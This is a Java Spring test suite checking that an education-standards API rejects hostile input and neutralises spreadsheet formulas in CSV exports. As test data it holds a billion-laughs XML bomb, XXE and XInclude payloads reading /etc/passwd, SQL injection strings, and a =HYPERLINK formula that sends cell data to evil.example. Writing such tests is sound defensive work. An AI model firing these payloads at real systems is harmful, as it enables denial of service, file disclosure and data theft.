package ru.workready.api.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import ru.workready.api.ApiTest;
import ru.workready.data.mapping.MappingImportService;
import ru.workready.data.programmes.ProgrammeRepository;
import ru.workready.data.standards.StandardRepository;
import ru.workready.engine.programmes.ActivityKind;
import ru.workready.engine.programmes.Outcome;
import ru.workready.engine.programmes.OutcomeKind;
import ru.workready.engine.programmes.Programme;

/** Billion laughs, XXE, 100 MB bodies and garbage: each a 4xx problem detail that leaks nothing. */
class HostileInputTest extends ApiTest {
    private static final String BILLION_LAUGHS = """
            <?xml version="1.0"?>
            <!DOCTYPE lolz [
             <!ENTITY lol "lol">
             <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
             <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
             <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
             <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
             <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
             <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
             <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
             <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
            ]>
            <XMLCardInfo><ProfessionalStandarts><ProfessionalStandart><NameProfessionalStandart>&lol9;</NameProfessionalStandart>
            </ProfessionalStandart></ProfessionalStandarts></XMLCardInfo>""";

    private static final String[] XXE = {
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
                    + "<XMLCardInfo><ProfessionalStandarts><ProfessionalStandart><NameProfessionalStandart>&e;"
                    + "</NameProfessionalStandart></ProfessionalStandart></ProfessionalStandarts></XMLCardInfo>",
            "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"http://127.0.0.1:9/evil.dtd\"><XMLCardInfo/>",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % p SYSTEM \"http://127.0.0.1:9/p.dtd\"> %p;]><XMLCardInfo/>",
            "<?xml version=\"1.0\"?><XMLCardInfo xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
                    + "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></XMLCardInfo>"};

    /** 100 MB: shared by the tests, allocated once. */
    private static byte[] hundredMegabytes;

    @Autowired
    MockMvc mvc;
    @Autowired
    JdbcClient jdbc;
    @Autowired
    ProgrammeRepository programmes;
    @Autowired
    StandardRepository standards;
    @Autowired
    MappingImportService mappings;

    @Test
    void billionLaughsIsRefusedAtOnce() throws Exception {
        long standards = count();
        MockHttpServletResponse r = call(post("/api/standards").contentType("application/xml").content(BILLION_LAUGHS));
        assertThat(r.getStatus()).isEqualTo(400);
        assertThat(r.getContentAsString()).contains("https://workready.ru/problems/invalid-standard-xml")
                .doesNotContain("lollol");
        assertThat(count()).isEqualTo(standards);
    }

    @Test
    void externalEntitiesDtdsAndIncludesAreNeverFetched() throws Exception {
        long standards = count();
        for (String xml : XXE) {
            MockHttpServletResponse r = call(post("/api/standards").contentType("application/xml").content(xml));
            assertThat(r.getStatus()).as(xml).isEqualTo(400);
            assertNoLeak(r);
            assertThat(r.getContentAsString(StandardCharsets.UTF_8)).doesNotContain("root:");
        }
        assertThat(count()).isEqualTo(standards);
    }

    @Test
    void hundredMegabyteBodiesGet413BeforeBeingRead() throws Exception {
        byte[] body = hundredMegabytes();
        String[][] endpoints = {
                {"/api/standards", "application/xml"},
                {"/api/organisations", "application/json"}};
        for (String[] e : endpoints) {
            MockHttpServletResponse r = call(post(e[0]).contentType(e[1]).content(body));
            assertThat(r.getStatus()).as(e[0]).isEqualTo(413);
            assertThat(r.getContentAsString()).contains("https://workready.ru/problems/payload-too-large");
        }
    }

    @Test
    void smallJsonEndpointsHaveSmallLimits() throws Exception {
        // 2 MiB is fine for an upload but not for a JSON request of a few fields
        byte[] twoMegabytes = new byte[2 * 1024 * 1024];
        Arrays.fill(twoMegabytes, (byte) ' ');
        assertThat(call(post("/api/organisations").contentType("application/json").content(twoMegabytes)).getStatus())
                .isEqualTo(413);
    }

    @Test
    void malformedRequestsLeakNothing() throws Exception {
        MockHttpServletResponse[] answers = {
                call(post("/api/organisations").contentType("application/json").content("{\"code\": \"x\", ")),
                call(post("/api/organisations").contentType("application/json").content("{\"kind\": \"'; drop table student; --\"}")),
                call(get("/api/standards/99999999999999999999999")),
                call(get("/api/standards/abc")),
                call(get("/api/audit").param("key", "1 or 1=1")),
                call(post("/api/colleges/DEMO/assessments").contentType("text/csv")
                        .content(new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0, 0x22, 0x0A}))};
        for (MockHttpServletResponse r : answers) {
            assertThat(r.getStatus()).isBetween(400, 499);
            assertThat(r.getContentType()).contains("application/problem+json");
            assertNoLeak(r);
        }
    }

    @Test
    void formulaCellsAreNeutralizedInCsvExports() throws Exception {
        String hostile = "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")";
        long college = programmes.insertCollege("FORMULA-" + UUID.randomUUID().toString().substring(0, 8),
                "Колледж с формулами", "Тест");
        long programme = programmes.insert(college, new Programme("09.02.07", "Программа с формулой", "Программист", 5,
                2025, List.of(new ActivityKind("ВД 1", "ПМ.01", "Разработка")),
                List.of(new Outcome("ПК 1.1", OutcomeKind.PROFESSIONAL, "Формировать алгоритмы", "ВД 1"),
                        new Outcome("ПК 1.2", OutcomeKind.PROFESSIONAL, hostile, "ВД 1"))));
        mappings.importCsv(programme, standards.currentEdition("06.001").orElseThrow(), "formula test",
                "outcome_code,function_code,type,weight\nПК 1.1,A/01.3,EXACT,1.0\n".getBytes(StandardCharsets.UTF_8));
        MockHttpServletResponse r = call(get("/api/reports/orphans").param("programme", Long.toString(programme))
                .param("standard", "06.001").param("format", "csv"));
        assertThat(r.getStatus()).isEqualTo(200);
        String csv = r.getContentAsString(StandardCharsets.UTF_8);
        assertThat(csv).contains("'=HYPERLINK").doesNotContain(";=HYPERLINK").doesNotContain("\n=HYPERLINK")
                .doesNotContain("\"=HYPERLINK");
        // and the shared utility for new exports does the same
        assertThat(ru.workready.data.csv.CsvCells.cell(hostile, ';')).startsWith("\"'=HYPERLINK");
    }

    @Test
    void programmeAndMappingExportsNeutralizeFormulaCellsAndStillRoundTrip() throws Exception {
        String hostile = "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")";
        long college = programmes.insertCollege("FORMULA2-" + UUID.randomUUID().toString().substring(0, 8),
                "Колледж с формулами", "Тест");
        Programme original = new Programme("09.02.07", "@Программа", "-Программист", 5, 2025,
                List.of(new ActivityKind("ВД 1", "ПМ.01", "+Разработка")),
                List.of(new Outcome("ПК 1.1", OutcomeKind.PROFESSIONAL, "Формировать алгоритмы", "ВД 1"),
                        new Outcome("ПК 1.2", OutcomeKind.PROFESSIONAL, hostile, "ВД 1")));
        long programme = programmes.insert(college, original);
        MockHttpServletResponse r = call(get("/api/programmes/" + programme + "/csv"));
        assertThat(r.getStatus()).isEqualTo(200);
        String csv = r.getContentAsString(StandardCharsets.UTF_8);
        assertThat(csv).contains("'=HYPERLINK").contains("'@Программа").contains("'-Программист")
                .contains("'+Разработка").doesNotContain(";=HYPERLINK").doesNotContain("\"=HYPERLINK");
        // importing the export again gives the programme back, names unchanged
        assertThat(ru.workready.data.programmes.ProgrammeFormat.readCsv(csv.getBytes(StandardCharsets.UTF_8)))
                .isEqualTo(original);

        long set = mappings.importCsv(programme, standards.currentEdition("06.001").orElseThrow(), "formula test",
                "outcome_code,function_code,type,weight\nПК 1.2,A/01.3,EXACT,1.0\n".getBytes(StandardCharsets.UTF_8));
        MockHttpServletResponse m = call(get("/api/mapping-sets/" + set + "/csv"));
        assertThat(m.getStatus()).isEqualTo(200);
        assertThat(m.getContentAsString(StandardCharsets.UTF_8)).contains("ПК 1.2;A/01.3;;EXACT;1;false");
    }

    private static void assertNoLeak(MockHttpServletResponse r) throws Exception {
        assertThat(r.getContentAsString(StandardCharsets.UTF_8))
                .doesNotContain("Exception").doesNotContain("\tat ").doesNotContain("at ru.workready")
                .doesNotContain("org.postgresql").doesNotContain("SQL").doesNotContain("select ")
                .doesNotContain("tools.jackson").doesNotContain("trace");
    }

    private static synchronized byte[] hundredMegabytes() {
        if (hundredMegabytes == null) {
            hundredMegabytes = new byte[100 * 1024 * 1024];
            Arrays.fill(hundredMegabytes, (byte) 'x');
        }
        return hundredMegabytes;
    }

    private long count() {
        return jdbc.sql("select count(*) from professional_standard").query(Long.class).single();
    }

    private MockHttpServletResponse call(MockHttpServletRequestBuilder request) throws Exception {
        return mvc.perform(request).andReturn().getResponse();
    }
}
